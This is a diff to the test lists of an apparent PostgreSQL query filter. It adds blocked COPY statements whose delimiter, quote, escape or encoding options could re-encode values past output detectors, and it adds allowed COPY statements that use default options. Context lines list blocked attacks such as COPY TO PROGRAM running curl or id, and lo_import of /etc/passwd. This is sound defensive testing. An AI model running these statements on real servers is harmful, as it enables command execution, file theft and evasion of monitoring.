@@ -110,6 +110,16 @@ DENY = [
     ("COPY orders TO '/tmp/orders.csv'", "server_file_access"),
     ("COPY orders TO PROGRAM 'curl http://x'", "server_file_access"),
     ("COPY (SELECT 1) TO PROGRAM 'id'", "server_file_access"),
+    # COPY options that escape, double or re-encode characters findings are made of inside the values
+    # (the detectors read the line, the client reads the values back out of it)
+    ("COPY (SELECT note FROM orders) TO STDOUT WITH (DELIMITER '@')", "copy_format_option"),
+    ("COPY orders TO STDOUT DELIMITER '-'", "copy_format_option"),
+    ("COPY orders TO STDOUT WITH DELIMITER ' ' CSV", "copy_format_option"),
+    ("COPY (SELECT note FROM orders) TO STDOUT (FORMAT csv, QUOTE '@')", "copy_format_option"),
+    ("COPY (SELECT note FROM orders) TO STDOUT CSV ESCAPE '_'", "copy_format_option"),
+    ("COPY (SELECT note FROM orders) TO STDOUT (FORMAT csv, DELIMITER E'\\t')", "copy_format_option"),
+    ("COPY (SELECT note FROM orders) TO STDOUT (ENCODING 'SJIS')", "copy_format_option"),
+    ("COPY (SELECT note FROM orders) TO STDOUT (ENCODING 'SQL_ASCII')", "copy_format_option"),
     ("SELECT lo_import('/etc/passwd')", "large_object"),
     ("SELECT lo_get(1234)", "large_object"),
     ("SELECT pg_terminate_backend(pid) FROM pg_locks", "backend_signal"),
@@ -320,6 +330,11 @@ ALLOW = [
     "SET statement_timeout = '5s'",  # tighter than pinned
     "SELECT set_config('TimeZone', 'UTC', false)",
     "LISTEN jobs",
+    # COPY with its options at their defaults, named or not
+    "COPY (SELECT note FROM orders) TO STDOUT (FORMAT csv, DELIMITER ',', QUOTE '\"', ESCAPE '\"', HEADER)",
+    "COPY (SELECT note FROM orders) TO STDOUT (DELIMITER E'\\t', NULL 'n/a', ENCODING 'utf-8')",
+    "COPY orders TO STDOUT WITH CSV HEADER FORCE QUOTE *",
+    "COPY (SELECT note FROM orders) TO STDOUT (ENCODING 'UNICODE')",
 ]
 
 
